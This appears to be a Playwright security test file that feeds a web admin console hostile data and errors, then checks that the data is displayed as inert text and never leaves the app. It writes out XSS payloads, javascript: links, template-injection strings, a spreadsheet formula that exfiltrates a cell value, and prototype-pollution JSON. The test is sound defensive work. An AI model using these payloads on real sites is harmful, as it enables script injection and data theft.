import { expect } from './fixtures.ts'
import { exportAs } from './support/download.ts'
import { sendJson } from './support/listen.ts'
import { attackTest, canaries, consentingTest } from './support/attack-test.ts'
import { showAnew } from './support/show.ts'

/** What a malicious service writes wherever it can send text. All of it must stay plain text. */
const evil = [
  '</script><script>window.ran=1</script><img src=x onerror="window.ran=1">',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe><base href="http://127.0.0.1:9/">',
  '[link](javascript:window.ran=1) [run](command:window.ran) ![picture](http://127.0.0.1:9/leak)',
  '{{constructor.constructor("window.ran=1")()}} ${window.ran=1} %3Cscript%3E \u202Egnp\u0000',
].join(' ')
const formula = '=HYPERLINK("http://127.0.0.1:9/?"&A1)'
const apl = [
  `let fromLet = ${JSON.stringify('`<img src=x onerror=window.ran=1> ![p](http://127.0.0.1:9/leak) [l](command:run)`')};`,
  `// ${evil.replaceAll('\u0000', '')}`,
  `['![set](http://127.0.0.1:9/leak)<img src=x onerror=window.ran=1>']`,
  '| extend made = fromLet',
].join('\n')

const seed = {
  orgs: [
    {
      id: 'o-1',
      name: `Org ${evil}`,
      plan: evil,
      primaryEmail: `"><img src=x onerror=window.ran=1>@example.com`,
      paymentStatus: evil,
      license: {
        tier: evil,
        regions: [evil],
        features: { [evil]: true, ['L'.repeat(300)]: true },
        expiresAt: evil,
        maxUsers: 3,
      },
      externalUrl: 'javascript:window.ran=1',
    },
    { id: 'o-2', name: formula, license: {} },
    { id: 'javascript:window.ran=1', name: 'L'.repeat(10_000), license: {} },
  ],
  tokens: [
    {
      id: 't-1',
      name: `Token ${evil}`,
      description: `${evil} ${'L'.repeat(300)}`,
      expiresAt: evil,
      datasetCapabilities: { [evil]: { [evil]: ['create', evil] } },
      orgCapabilities: { [evil]: [evil] },
    },
    { id: 't-2', name: formula, scopes: [evil], orgCapabilities: { apiTokens: ['read'] } },
  ],
  starredQueries: [
    {
      id: 'q-1',
      name: `Query ${evil}`,
      dataset: evil,
      kind: 'apl',
      who: evil,
      metadata: { [evil]: evil },
      query: { apl },
      [evil]: { [evil]: [evil] },
    },
  ],
}

attackTest.describe('with a service that means harm', () => {
  attackTest.use({ seed })

  attackTest(
    'its texts are texts on every screen, in every hover and in files',
    async ({ as, page, context, starboard }) => {
      const elsewhere: string[] = []
      context.on('request', (request) => {
        const { origin, protocol } = new URL(request.url())
        if (origin !== starboard.url && protocol !== 'data:' && protocol !== 'blob:')
          elsewhere.push(request.url())
      })
      page.on('dialog', (dialog) => elsewhere.push(`dialog ${dialog.message()}`))
      context.on('page', (opened) => elsewhere.push(`page ${opened.url()}`))
      const expectHarmless = async (where: string) => {
        const found = await page.evaluate(() => ({
          ran: Reflect.get(window, 'ran'),
          links: [...document.querySelectorAll('a[href], area[href], form[action]')]
            .map((part) => part.getAttribute('href') ?? part.getAttribute('action') ?? '')
            .filter((address) => /^\s*(?:javascript|data|command|vbscript):/iu.test(address)),
          planted: document.querySelectorAll('[onerror], base, iframe, object, embed, main script').length,
          tooWide: [...document.querySelectorAll('html, main')].some(
            (part) => part.scrollWidth > part.clientWidth,
          ),
        }))
        expect(found, where).toEqual({ links: [], planted: 0, tooWide: false, ran: undefined })
      }

      await as('admin', '/orgs')
      const shown: readonly (readonly [address: string, text: string])[] = [
        ['/orgs', 'Org </script><script>'],
        ['/orgs/o-1', '[link](javascript:window.ran=1)'],
        [`/orgs/${encodeURIComponent('javascript:window.ran=1')}`, 'LLLL'],
        ['/tokens', 'Token </script><script>'],
        ['/tokens?tab=table', 'Token </script><script>'],
        ['/tokens?tab=findings', '</script>'],
        ['/tokens/t-1', '[link](javascript:window.ran=1)'],
        [`/datasets/${encodeURIComponent(evil)}`, '</script>'],
        ['/queries/q-1?tab=options', '</script>'],
        ['/queries/q-1?tab=json', '</script>'],
        ['/queries/q-1?tab=history', '</script>'],
        ['/queries/q-1', '</script>'],
      ]
      for (const [address, text] of shown) {
        await showAnew(page, address)
        await expect(page.getByRole('main'), address).toContainText(text)
        await expectHarmless(address)
      }

      const hover = page.locator('.monaco-hover:visible')
      for (const name of ['fromLet', "['![set]", 'made']) {
        // The language may still be loading when the pointer arrives.
        await expect(async () => {
          await page.mouse.move(0, 0)
          await page.locator('.view-line span', { hasText: name }).last().hover()
          await expect(hover.first(), name).toBeVisible({ timeout: 3000 })
        }).toPass()
        await expect(hover.locator('a, img, iframe, script')).toHaveCount(0)
        await expectHarmless(`hover on ${name}`)
        await page.keyboard.press('Escape')
        await page.mouse.move(0, 0)
        await expect(hover).toHaveCount(0)
      }

      await showAnew(page, '/orgs')
      expect(await exportAs(page, 'CSV')).toContain(`"'${formula.replaceAll('"', '""')}"`)
      expect(elsewhere).toEqual([])
    },
  )
})

const deep = `${'{"a":['.repeat(400)}1${']}'.repeat(400)}`

/** Errors from a malicious service. */
const errors: Readonly<Record<string, object | string>> = {
  markup: { code: evil, message: evil },
  'a list of messages': { message: [evil, { message: evil }] },
  'a prototype': JSON.parse(
    `{"__proto__":{"message":"polluted"},"constructor":{"prototype":{"ran":1}},"message":"m"}`,
  ),
  deep,
  page: `<!doctype html>${evil}`,
}

const failing = { answer: '' as object | string }

consentingTest.describe('with a service whose errors mean harm', () => {
  consentingTest.use({
    allowedErrors: /Failed to load resource/u,
    api: {
      answer: (_request, response) => {
        const { answer } = failing
        if (typeof answer === 'string') response.writeHead(400, { 'Content-Type': 'text/html' }).end(answer)
        else sendJson(response, 400, answer, { 'X-Trace-Id': '<img src=x onerror=window.ran=1>' })
      },
    },
  })

  consentingTest('they are shown as text', async ({ page }) => {
    failing.answer = errors['markup'] ?? ''
    await page.goto('/auth/login?to=/orgs')
    for (const [what, answer] of Object.entries(errors)) {
      failing.answer = answer
      await page.goto('/orgs')
      await expect(page.getByRole('alert'), what).toBeVisible()
      await page.getByRole('alert').getByText('Answer as sent').click()
      await expect(page.locator('[onerror], main script, iframe, base'), what).toHaveCount(0)
      const seen = await page.evaluate(() => [Reflect.get(window, 'ran'), Reflect.get({}, 'message')])
      expect(seen, what).toEqual([undefined, undefined])
    }
    expect(await page.content()).not.toContain(canaries.accessToken)
  })
})
